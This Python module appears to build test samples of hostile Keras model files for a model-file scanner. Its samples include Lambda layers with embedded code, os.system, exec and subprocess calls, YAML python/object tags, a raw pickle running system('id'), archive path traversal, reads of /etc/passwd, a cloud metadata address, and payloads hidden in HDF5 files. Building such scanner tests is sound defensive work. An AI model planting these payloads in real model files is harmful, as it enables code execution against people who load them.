"""Attacks in Keras models, as JSON, YAML, archives and HDF5."""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator
from typing import Any

import hdf5_samples as hdf5
from corpora.hostile_pickles import CODE
from corpora.units import (
    BOMB,
    BROKEN,
    CALLED,
    CUSTOM,
    HIDDEN,
    KERAS,
    ODD,
    OPERATOR,
    OUTSIDE,
    PATH,
    REACHES,
    YAML,
    Unit,
    unit,
)
from modelfile_samples import EVIL, torch_zip, zipped
from shipworthy.modelfile import Code

LAMBDA = base64.b64encode(CODE).decode()


CODE_OBJECT = {"class_name": "__lambda__", "config": {"code": LAMBDA, "defaults": None, "closure": None}}


def layer(class_name: str, module: str | None = "keras.layers", /, **config: Any) -> dict[str, Any]:
    return {"module": module, "class_name": class_name, "registered_name": None, "config": config}


def function(module: str, qualname: str) -> dict[str, Any]:
    return {"module": module, "class_name": "function", "config": qualname, "registered_name": "function"}


OLD_LAMBDA = {
    "class_name": "Lambda",
    "config": {"name": "l", "function_type": "lambda", "function": [LAMBDA, None, None], "module": "__main__"},
}


DOWNLOAD = "https://example.invalid/x.tar"


LAYERS: dict[str, tuple[dict[str, Any], frozenset[Code]]] = {
    "Lambda": (layer("Lambda", function=CODE_OBJECT), KERAS),
    "Lambda of Keras 2": (OLD_LAMBDA, KERAS),
    "Lambda with a function's name": (layer("Lambda", function=function("os", "system")), KERAS),
    "Lambda as output shape": (layer("Lambda", function="relu", output_shape=CODE_OBJECT), KERAS),
    "Lambda in a model in a model": (
        layer("Functional", "keras", layers=[layer("Sequential", "keras", layers=[OLD_LAMBDA])]),
        KERAS,
    ),
    "Lambda in a wrapper": (layer("TimeDistributed", layer=OLD_LAMBDA), KERAS),
    "Lambda in a bidirectional wrapper": (layer("Bidirectional", backward_layer=OLD_LAMBDA), KERAS),
    "Lambda as an activation": (layer("Dense", units=1, activation=CODE_OBJECT), KERAS),
    "Lambda as a regularizer": (layer("Dense", units=1, kernel_regularizer=OLD_LAMBDA), KERAS),
    "Lambda under another key": (layer("Dense", units=1, x={"y": [{"z": OLD_LAMBDA}]}), KERAS),
    "Lambda through its own module": (
        layer("Lambda", "keras.src.layers.core.lambda_layer", function=CODE_OBJECT),
        KERAS,
    ),
    "os.system as a layer": (layer("system", "os", command="id"), KERAS),
    "exec as an activation": (layer("Dense", units=1, activation=function("builtins", "exec")), KERAS),
    "eval as a loss": (layer("Dense", units=1, loss=function("builtins", "eval")), KERAS),
    "subprocess as an initializer": (layer("Dense", kernel_initializer=layer("Popen", "subprocess", args="id")), KERAS),
    "get_file": (layer("get_file", "keras.utils", origin=DOWNLOAD, extract=True), KERAS | REACHES),
    "get_file, inner module": (layer("get_file", "keras.src.utils.file_utils", origin=DOWNLOAD), KERAS | REACHES),
    "run_in_subprocess": (layer("run_in_subprocess", "keras.src.utils.progbar"), KERAS),
    "load_model": (layer("load_model", "keras.models", filepath="/tmp/x.keras"), KERAS | REACHES),
    "load_img": (layer("load_img", "keras.utils", path="/etc/passwd"), KERAS | REACHES),
    "unsafe deserialization": (layer("enable_unsafe_deserialization", "keras.config"), KERAS),
    "dotted class": (layer("os.system", "keras.layers"), KERAS),
    "class of the user": (layer("Evil", "evilpkg.layers"), KERAS),
    "registered class": ({**layer("Evil", None), "registered_name": "evil>Evil"}, KERAS),
    "class without a module": ({"class_name": "EvilLayer", "config": {}}, KERAS),
    "private of Keras": (layer("_Registry", "keras.src.saving.object_registration"), KERAS),
    "torch wrapper": (
        layer("TorchModuleWrapper", "keras.utils", module=base64.b64encode(torch_zip(EVIL)).decode()),
        KERAS | CALLED,
    ),
    "torch wrapper in layers": (
        layer("TorchModuleWrapper", module=base64.b64encode(torch_zip(EVIL)).decode()),
        KERAS | CALLED,
    ),
    "TFSMLayer": (layer("TFSMLayer", filepath="/tmp/x"), KERAS | OUTSIDE),
    "FlaxLayer": (layer("FlaxLayer", "keras.src.utils.jax_layer", module=LAMBDA), KERAS),
    "StringLookup of a file": (layer("StringLookup", vocabulary="/etc/passwd"), KERAS | OUTSIDE),
    "IntegerLookup of a file": (layer("IntegerLookup", vocabulary="../../x"), KERAS | OUTSIDE),
    "TextVectorization of an address": (
        layer("TextVectorization", vocabulary="http://169.254.169.254/"),
        KERAS | OUTSIDE,
    ),
    "TextVectorization with a function": (layer("TextVectorization", standardize=function("os", "system")), KERAS),
    "old operator layer": (layer("TFOpLambda", "tf", function="io.write_file"), KERAS | OPERATOR),
    "old operator class": (layer("TensorFlowOpLayer", None, node_def="WriteFile"), KERAS | REACHES | OPERATOR),
    "slicing operator of another name": (layer("SlicingOpLambda", None, function="io.read_file"), KERAS | OPERATOR),
    "100,000 layers deep": ({"class_name": "x", "config": []}, BOMB | BROKEN),
}


def keras_archive(config: bytes, *more: tuple[str, bytes]) -> bytes:
    metadata = b'{"keras_version": "3.9.0", "date_saved": "2025-01-01@00:00:00"}'
    return zipped(("metadata.json", metadata), ("config.json", config), ("model.weights.h5", hdf5.group()), *more)


def keras() -> Iterator[Unit]:
    for key, (item, codes) in LAYERS.items():
        config = json.dumps(layer("Sequential", "keras", layers=[item])).encode()
        if key.startswith("100,000"):
            config = config.replace(b'"config": []', b'"config": ' + b"[" * 100_000 + b"]" * 100_000)
        attribute = hdf5.group(hdf5.attribute("model_config", config[:60_000]))
        yield unit("Keras archive", key, keras_archive(config), codes, "m.keras")
        yield unit("Keras JSON", key, config, codes, "m.json")
        if len(config) < 60_000:
            yield unit("Keras HDF5", key, attribute, codes, "m.h5")
    plain = json.dumps(layer("Sequential", "keras", layers=[])).encode()
    for key, training in {
        "loss": {"loss": CODE_OBJECT},
        "metric": {"metrics": [OLD_LAMBDA]},
        "optimizer": {"optimizer_config": layer("system", "os")},
        "function": {"loss": function("builtins", "exec")},
    }.items():
        raw = hdf5.group(
            hdf5.attribute("model_config", plain), hdf5.attribute("training_config", json.dumps(training).encode())
        )
        yield unit("Keras HDF5", f"training: {key}", raw, KERAS, "m.h5")
        yield unit(
            "Keras archive",
            f"compile: {key}",
            keras_archive(json.dumps({**layer("Sequential", "keras", layers=[]), "compile_config": training}).encode()),
            KERAS,
            "m.keras",
        )
    for key, more in {
        "path upwards": (("assets/../../x", b"x"),),
        "absolute path": (("/etc/x", b"x"),),
        "pickle as an asset": (("assets/x", EVIL),),
        "program as an asset": (("assets/x", b"\x7fELF\2\1\1" + bytes(90)),),
        "second configuration": (("sub/config.json", json.dumps(layer("Lambda", function=CODE_OBJECT)).encode()),),
    }.items():
        yield unit(
            "Keras archive", key, keras_archive(plain, *more), HIDDEN | PATH | KERAS | {Code.FOREIGN_CONTENT}, "m.keras"
        )
    yield unit(
        "Keras archive",
        "key twice",
        keras_archive(plain[:-1] + b', "class_name": "Lambda"}'),
        KERAS | BROKEN,
        "m.keras",
    )
    for tag in (
        "python/object/apply:os.system ['id']",
        "python/object/new:subprocess.Popen ['id']",
        "python/name:os.system",
        "python/module:os",
        "python/object:evil.X {}",
        "binary aWQ=",
        "evil x",
    ):
        codes = YAML | KERAS
        yield unit("Keras YAML", tag, f"class_name: Sequential\nconfig: !!{tag}\n".encode(), codes, "m.yaml")
        yield unit(
            "Keras YAML",
            f"{tag}, %TAG",
            f"%TAG !x! tag:yaml.org,2002:\n---\nclass_name: Sequential\nconfig: !x!{tag}\n".encode(),
            codes | BROKEN,
            "m.yaml",
        )
        yield unit(
            "Keras YAML",
            f"{tag}, verbatim",
            f"class_name: Sequential\nconfig: !<tag:yaml.org,2002:{tag.split()[0]}> x\n".encode(),
            codes,
            "m.yaml",
        )
    for key, (item, codes) in LAYERS.items():
        if not key.startswith("100,000"):
            yield unit("Keras YAML", key, yaml(layer("Sequential", "keras", layers=[item])).encode(), codes, "m.yaml")


def yaml(value: object, indent: str = "") -> str:
    """As Keras 2 wrote it: blocks of mappings and lists, texts quoted."""
    if isinstance(value, dict) and value:
        lines = []
        for key, inner in value.items():
            nested = isinstance(inner, dict | list) and bool(inner)
            lines.append(f"{indent}{key}:" + ("\n" + yaml(inner, indent + "  ") if nested else f" {yaml(inner)}\n"))
        return "".join(lines)
    if isinstance(value, list) and value:
        lines = []
        for inner in value:
            text = yaml(inner, indent + "  ") if isinstance(inner, dict | list) and inner else f"{yaml(inner)}\n"
            lines.append(f"{indent}- " + text.removeprefix(indent + "  "))
        return "".join(lines)
    if isinstance(value, str):
        return "'" + value.replace("'", "''") + "'"
    return json.dumps(value)


def hdf() -> Iterator[Unit]:
    def one(key: str, data: bytes, codes: frozenset[Code]) -> Unit:
        return unit("HDF5", key, data, codes, "m.weights.h5")

    for path in ("/etc/passwd", "../../x", "other.h5", "https://example.invalid/x.h5"):
        yield one(f"external link {path}", hdf5.group(hdf5.link("w", 64, b"\0" + path.encode() + b"\0/x\0")), OUTSIDE)
        yield one(f"external data {path}", hdf5.external(path), OUTSIDE)
    old = b"cposix\nsystem\n(S'id'\ntR."
    yield one("pickled attribute", hdf5.group(hdf5.attribute("CLASS", b"GROUP\0"), hdf5.attribute("x", old)), HIDDEN)
    yield one("pickled attribute, new", hdf5.group(hdf5.attribute("x", EVIL)), HIDDEN)
    yield one("pickle as the data", hdf5.weights(EVIL + bytes(-len(EVIL) % 4)), HIDDEN)
    yield one(
        "filter plugin",
        hdf5.dataset(hdf5.space(4), hdf5.message(3, hdf5.FLOAT), hdf5.filtered(32015), hdf5.chunked(4, 4)),
        OPERATOR | OUTSIDE | {Code.FOREIGN_CONTENT, Code.UNKNOWN_NAME, Code.CODE_EXECUTION},
    )
    yield one("unknown link kind", hdf5.group(hdf5.link("w", 70, b"evil")), ODD | OUTSIDE | CUSTOM)
    yield one(
        "2^60 elements", hdf5.dataset(hdf5.space(1 << 60), hdf5.message(3, hdf5.FLOAT), hdf5.contiguous(None, 0)), BOMB
    )
    yield one(
        "data beyond the file",
        hdf5.dataset(hdf5.space(4), hdf5.message(3, hdf5.FLOAT), hdf5.contiguous(1 << 40, 16)),
        BROKEN,
    )
    yield one("payload behind", hdf5.weights() + EVIL, HIDDEN)
    yield one("payload in a hole", _hole(), HIDDEN)
    yield one("cut", hdf5.weights()[:-20], BROKEN | ODD)
    yield one("wrong checksum", hdf5.weights()[:-1] + b"\0", BROKEN | ODD)


def _hole() -> bytes:
    file = hdf5.Writer()
    file.put(EVIL)
    data = file.put(bytes(16))
    head = file.put(hdf5.header(hdf5.space(4), hdf5.message(3, hdf5.FLOAT), hdf5.contiguous(data, 16)))
    return file.finish(hdf5.link("w", 0, head))
